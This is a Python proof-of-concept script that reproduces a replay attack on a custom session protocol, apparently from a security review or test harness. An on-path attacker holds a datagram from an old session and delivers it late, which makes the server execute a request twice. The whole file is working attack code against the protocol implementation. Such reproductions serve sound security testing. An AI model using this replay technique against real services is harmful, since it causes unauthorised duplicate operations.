"""REPRODUCTION (on-path attacker, no key): drop X's reply, hold one of X's datagrams under session A;
the client moves to B (a rekey, or a forged NO_SESSION); >5 s after B is in use deliver the held
datagram -> server answers NO_SESSION naming A and X (page: auth_stale) and no longer honours a resume
naming A although X is still in its call table; the client, as the page says ('a new session that
follows the old one'), resumes from A and resends X -> X runs again. Usage: repro_oldsession.py PORT"""
import sys, os, time, hashlib, collections; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from v5 import *
PORT = int(sys.argv[1])
c = Client(PORT); A = c.handshake(); X = os.urandom(20); r = int.from_bytes(os.urandom(5), "big")
c.send(A.seal(T_REQ, 1, r, 0, 1, len(X), 0, X)); print("X under A:", [c.classify(x, A)[0] for x in c.recv_all(0.2)], "(reply dropped by attacker)")
held = A.seal(T_REQ, 1, r, 0, 1, len(X), 0, X)     # client's retransmission under A, captured and held
B = c.handshake(prev=A); c.send(B.seal(T_REQ, 1, r + 1, 0, 1, 2, 0, b"zz")); c.recv_all(0.2)
time.sleep(6)
c.send(held); print("held X under A delivered at +6 s:", [c.classify(x, A)[0] for x in c.recv_all(0.3)])
C = c.handshake(prev=A); c.send(C.seal(T_REQ, 1, r, 0, 1, len(X), 0, X))
print("client resumes from A, resends X:", [c.classify(x, C)[0] for x in c.recv_all(0.3)])
n = collections.Counter(l.strip() for l in open(os.path.join(os.environ.get("ATTACK_DIR", "/tmp/attack"), f"runs.{PORT}.log")))[hashlib.sha256(X).hexdigest()]
print("X ran", n, "times", "<-- RAN TWICE" if n > 1 else "")
